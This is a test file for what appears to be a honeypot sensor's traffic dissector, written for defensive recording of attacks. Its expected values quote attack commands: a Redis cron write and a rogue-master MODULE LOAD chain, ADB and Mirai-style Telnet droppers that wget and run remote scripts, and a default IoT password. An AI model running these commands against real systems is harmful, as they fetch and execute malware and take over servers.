// dissect() over the corpus and the protocols' captured fixtures: the protocol and the fields,
// credentials and commands the sensor records (as the e2e tests in test/ check them), the
// malformed reasons, no throw on hostile bytes, and nothing left running afterwards.

import { readFileSync } from 'node:fs';
import { Duplex } from 'node:stream';

import ssh2 from 'ssh2';
import { describe, expect, it } from 'vitest';

import { dissect, dissectAs, MAX_FEED_CHUNK_BYTES, type Dissection } from './dissect.js';
import { PROTOCOLS } from './registry.js';
import { ssh } from './ssh/index.js';
import { corpusRecords } from './test-corpus.js';
import { fakeContext } from './test-session.js';
import type { ProtocolDescriptor, SessionContext } from './types.js';

const records = corpusRecords();

function fixture(path: string): Buffer {
  return readFileSync(new URL(path, import.meta.url));
}

async function ofRecord(id: string): Promise<Dissection> {
  const record = records.find((r) => r.id === id);
  if (record === undefined) throw new Error(`corpus record ${id} is missing`);
  return dissect(record.bytes, { transport: record.transport, dstPort: record.port });
}

/**
 * What an ssh2 client sends through a whole login and exec against the live SSH session,
 * as the sensor would store it. Each side's bytes reach the other on a later turn, as over
 * a socket.
 */
async function recordSshLogin(): Promise<Buffer> {
  const sent: Buffer[] = [];
  const ctx = fakeContext({ greeted: false, dstPort: 22 });
  const wire = new Duplex({
    read() { /* pushed below */ },
    write(chunk: Buffer, _encoding, done) {
      const bytes = Buffer.from(chunk);
      sent.push(bytes);
      setImmediate(() => session?.data(bytes));
      done();
    },
  });
  // The wire only writes once the client connects, after the session exists.
  const session = ssh.session?.({ ...ctx, end: () => wire.push(null),
    send: (bytes) => void setImmediate(() => wire.push(Buffer.from(bytes))) });
  const client = new ssh2.Client();
  await new Promise<void>((resolve, reject) => {
    client.on('error', reject);
    client.on('ready', () => client.exec('uname -a', (err, stream) => {
      if (err) return reject(err);
      stream.on('close', () => resolve()).resume();
    }));
    client.connect({ sock: wire, username: 'root', password: 'root' } as ssh2.ConnectConfig);
  });
  client.end();
  session?.close?.();
  expect(ctx.commands).toEqual(['uname -a']);
  return Buffer.concat(sent);
}

/** Live handles and requests of this process, by kind, ignoring the test runner's pipes. */
function resources(): string[] {
  return process.getActiveResourcesInfo().filter((r) => r !== 'PipeWrap').sort();
}

describe('dissect over the corpus', () => {
  it.each(records.filter((r) => r.protocol !== undefined).map((r) => [r.id, r]))(
    'names %s by its expected protocol', async (_id, record) => {
      const found = await dissect(record.bytes, { transport: record.transport,
        dstPort: record.port });
      const expected = record.bytes.length === 0 ? 'none' : record.protocol ?? 'unknown';
      expect(found.protocol).toBe(expected);
    });

  it('leaves no timer, immediate or socket behind', async () => {
    const before = resources();
    for (const record of records) {
      await dissect(record.bytes, { transport: record.transport, dstPort: record.port });
    }
    expect(resources()).toEqual(before);
  });

  it('never throws on the hostile records, and names their malformations', async () => {
    const hostile = records.filter((r) => r.id.startsWith('adv-'));
    const results = await Promise.all(hostile.map((r) => dissect(r.bytes,
      { transport: r.transport, dstPort: r.port })));
    expect(results).toHaveLength(hostile.length);
    expect((await ofRecord('adv-giant-http-header')).malformed).toBe('header_too_large');
    const bulk = await ofRecord('adv-redis-huge-bulk-length');
    expect(bulk).toMatchObject({ malformed: 'invalid_bulk_length',
      fields: { malformed_reason: 'invalid_bulk_length', declared_length: 2 ** 31 - 1 } });
    // Recorded by the HTTP session's close(), as when the slow client finally hangs up.
    expect((await ofRecord('adv-slowloris-partial-headers')).fields['incomplete'])
      .toBe('incomplete');
  });

  it('records nothing for an empty payload', async () => {
    const none = await dissect(Buffer.alloc(0), { transport: 'tcp', dstPort: 23 });
    expect(none).toEqual({ protocol: 'none', fields: {}, commands: [], credentials: [],
      malformed: null });
  });
});

describe('dissect records what the sensor records', () => {
  it('reads a Geth JSON-RPC call: method, path, host, user agent, RPC method', async () => {
    const found = await ofRecord('seed-8545-eth-blocknumber-id30');
    expect(found.fields).toMatchObject({ method: 'POST', path: '/', host: '203.0.113.10:8545',
      user_agent: 'Go-http-client/1.1', persona: 'geth' });
    expect(found.commands).toEqual(['eth_blockNumber']);
  });

  it('gives the inline and RESP Redis cron writes the same commands', async () => {
    const inline = await ofRecord('seed-6379-redis-cron-write-inline');
    const resp = await ofRecord('seed-6379-redis-cron-write-resp');
    expect(inline.commands.slice(1)).toEqual(['config set dir /etc/cron.d',
      'config set dbfilename root', 'save']);
    expect(resp.commands).toEqual(inline.commands);
    expect(resp.fields['config_set']).toEqual({ dir: '/etc/cron.d', dbfilename: 'root' });
    expect(inline.fields['inline']).toBe(true);
    expect(resp.fields['inline']).toBeUndefined();
  });

  it('follows a rogue-master chain through MODULE LOAD', async () => {
    const found = await ofRecord('redis-rogue-master-module-load');
    expect(found.commands).toEqual(['SLAVEOF 198.51.100.211 21000', 'MODULE LOAD /tmp/exp.so',
      'system.exec id']);
    expect(found.fields).toMatchObject({ replicaof: '198.51.100.211:21000',
      modules: ['/tmp/exp.so'] });
  });

  it('takes the ADB shell command of a dropper', async () => {
    const found = await ofRecord('seed-5555-adb-shell-dropper');
    expect(found.commands).toHaveLength(1);
    expect(found.commands[0]).toMatch(/^cd \/data\/local\/tmp\/; busybox wget http:\/\/198\.51\./);
    expect(found.fields['services']).toEqual([`shell:${found.commands[0]}`]);
    expect(found.fields['client_banner']).toBe('host::');
  });

  it('takes the RDP cookie as a user and the protocols offered', async () => {
    for (const [id, user] of [['seed-3389-rdp-mstshash-hello', 'hello'],
      ['seed-3389-rdp-mstshash-administr', 'Administr']]) {
      const found = await ofRecord(id as string);
      expect(found.fields).toMatchObject({ cookie: user, requested_protocols: ['ssl', 'hybrid'] });
      expect(found.credentials).toEqual([{ username: user, password: '' }]);
    }
  });

  it('reads an RDP connection request and the MCS Connect Initial after it', async () => {
    const bytes = Buffer.concat([fixture('rdp/fixtures/xfreerdp-request-rdp.bin'),
      fixture('rdp/fixtures/xfreerdp-mcs-connect-initial.bin')]);
    const found = await dissect(bytes, { transport: 'tcp', dstPort: 3389 });
    expect(found.fields).toMatchObject({ cookie: 'hello', selected: 'rdp', next: 'mcs' });
    expect(found.fields['client_name']).toEqual(expect.any(String));
  });

  it('reads the SSH identification and KEXINIT in the clear', async () => {
    expect((await ofRecord('seed-22-ssh-libssh2-banner')).fields)
      .toEqual({ client_version: 'SSH-2.0-libssh2_1.4.3' });
    const found = await dissect(fixture('ssh/fixtures/openssh-client-first.bin'),
      { transport: 'tcp', dstPort: 22 });
    expect(found.fields['client_version']).toMatch(/^SSH-2\.0-OpenSSH_9\.2p1/);
    expect(found.fields['hassh']).toMatch(/^[0-9a-f]{32}$/);
    expect(found.malformed).toBeNull();
  });

  it('reads the cleartext of a recorded SSH login and does not blame the client for the ' +
    'encrypted rest, which new keys cannot read', async () => {
    const found = await dissect(await recordSshLogin(), { transport: 'tcp', dstPort: 22 });
    expect(found.fields['client_version']).toMatch(/^SSH-2\.0-ssh2js/);
    expect(found.fields['hassh']).toMatch(/^[0-9a-f]{32}$/);
    expect(found.fields['negotiated']).toMatchObject({ kex: expect.any(String) });
    expect(found.malformed).toBeNull();
    expect(found.commands).toEqual([]);
  });

  it('logs a Mirai-style loader into Telnet and keeps its commands', async () => {
    const found = await ofRecord('telnet-mirai-login-gafgyt-dropper');
    expect(found.credentials).toContainEqual({ username: 'root', password: 'vizxv' });
    expect(found.commands[0]).toBe('sh');
    expect(found.commands[1]).toContain('wget http://198.51.100.170/ISIS.sh; chmod 777 *;');
    expect(found.fields['login']).toBe('root');
  });

  it('keeps the NULs of Telnet credentials, escaped', async () => {
    const found = await ofRecord('adv-nul-bytes-telnet-and-path');
    expect(found.credentials[0]).toEqual({ username: 'root\\x00',
      password: '\\x00\\x00admin\\x00pass' });
  });

  it('reads a TDS PRELOGIN and LOGIN7 and recovers the password', async () => {
    const bytes = Buffer.concat([fixture('mssql/fixtures/tsql-prelogin.bin'),
      fixture('mssql/fixtures/tsql-login7.bin')]);
    const found = await dissect(bytes, { transport: 'tcp', dstPort: 1433 });
    expect(found.credentials).toHaveLength(1);
    expect(found.fields).toMatchObject({ tds_version: '0x74000004', app_name: 'TSQL' });
  });

  it('lets the TLS handshake settle: OpenSSL refuses an SSLv3 hello with an alert',
    async () => {
      const found = await ofRecord('tls-sslv3-clienthello-nmap');
      expect(found.fields['tls']).toMatchObject({ version: '0300', outcome: 'alert' });
      expect((found.fields['tls'] as { ja4: string }).ja4).toMatch(/^ts3/);
    });

  it('answers UDP datagrams: NTP monlist and SSDP discovery', async () => {
    expect((await ofRecord('udp-ntp-monlist')).fields).toMatchObject({ ntp_mode: 7,
      request_code: 42 });
    expect((await ofRecord('udp-ssdp-msearch-all')).fields).toMatchObject({
      method: 'M-SEARCH', st: 'ssdp:all' });
  });

  it('records an unreadable UDP datagram\'s reason as the sensor does', async () => {
    const dns = PROTOCOLS.find((p) => p.name === 'dns') ?? null;
    // A response (QR set) where a query should be: BIND ignores it, the reader says why.
    const response = Buffer.from(
      '12348180000100000000000003777777076578616d706c6503636f6d0000010001', 'hex');
    const found = await dissectAs(dns, response, { transport: 'udp', dstPort: 53 });
    expect(found).toMatchObject({ protocol: 'dns', malformed: 'not_query',
      fields: { malformed_reason: 'not_query' } });
  });
});

/** A protocol made up for the tests: its session runs `onData` and may record. */
function madeUp(onData: (ctx: SessionContext, chunk: Buffer) => void): ProtocolDescriptor {
  return {
    name: 'made-up', transports: ['tcp'], ports: [], probe: () => 1,
    session: (ctx) => ({ data: (chunk) => onData(ctx, chunk) }),
  };
}

describe('dissectAs, driving a session', () => {
  it('keeps what a session recorded before it threw, marked internal_error', async () => {
    const thrower = madeUp((ctx) => {
      ctx.commands.push('first');
      ctx.fields['seen'] = true;
      throw new Error('parser bug');
    });
    const found = await dissectAs(thrower, Buffer.from('x'), { transport: 'tcp', dstPort: 1 });
    expect(found).toMatchObject({ protocol: 'made-up', commands: ['first'],
      malformed: 'internal_error', fields: { seen: true, malformed_reason: 'internal_error' } });
  });

  it('closes the session, which frees its timers', async () => {
    const before = resources();
    let timer: NodeJS.Timeout | undefined;
    const timed: ProtocolDescriptor = { ...madeUp(() => undefined),
      session: () => ({
        data: () => void (timer ??= setTimeout(() => undefined, 60_000)),
        close: () => clearTimeout(timer),
      }) };
    await dissectAs(timed, Buffer.from('x'), { transport: 'tcp', dstPort: 1 });
    expect(timer).toBeDefined();
    expect(resources()).toEqual(before);
  });

  it('feeds no more bytes once the session has ended the connection', async () => {
    const chunks: number[] = [];
    const ender = madeUp((ctx, chunk) => {
      chunks.push(chunk.length);
      ctx.end();
    });
    await dissectAs(ender, Buffer.alloc(MAX_FEED_CHUNK_BYTES * 2 + 1),
      { transport: 'tcp', dstPort: 1 });
    expect(chunks).toEqual([MAX_FEED_CHUNK_BYTES]);
  });

  it('feeds a long payload whole, in order, when the session does not end', async () => {
    const seen: Buffer[] = [];
    const reader = madeUp((_ctx, chunk) => void seen.push(Buffer.from(chunk)));
    const bytes = Buffer.alloc(MAX_FEED_CHUNK_BYTES + 100, 7);
    bytes[bytes.length - 1] = 9;
    await dissectAs(reader, bytes, { transport: 'tcp', dstPort: 1 });
    expect(Buffer.concat(seen).equals(bytes)).toBe(true);
  });

  it('hands the session the port, the client address and the first malformed reason',
    async () => {
      const recorder = madeUp((ctx) => {
        ctx.fields['port'] = ctx.dstPort;
        ctx.fields['client'] = ctx.srcIp;
        ctx.malformed('first_reason');
        ctx.malformed('second_reason');
      });
      const found = await dissectAs(recorder, Buffer.from('x'),
        { transport: 'tcp', dstPort: 2222, srcIp: '192.0.2.7' });
      expect(found.fields).toMatchObject({ port: 2222, client: '192.0.2.7' });
      expect(found.malformed).toBe('first_reason');
    });
});
